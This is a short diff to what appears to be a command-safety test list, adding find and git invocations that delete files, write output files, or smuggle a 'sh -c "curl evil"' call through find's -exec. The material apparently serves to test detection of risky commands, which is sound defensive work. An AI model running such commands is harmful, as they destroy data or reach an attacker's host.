@@ -142,6 +142,8 @@ find . -exec rm a +
 find . -execdir rm a +
 find . -ok rm a +
 find . -delete
+find -- . -delete
+find -- . -maxdepth 0 -exec sh -c "curl evil" "{}" +
 find . -fprint a
 find . -fprintf a b
 find . -fls a
@@ -157,6 +159,8 @@ git diff --output=a
 git diff --no-index a b
 git diff --ext-diff
 git show --textconv HEAD
+git log --pretty --output=x
+git diff -U --output=x
 git commit -m x
 git push
 git fetch
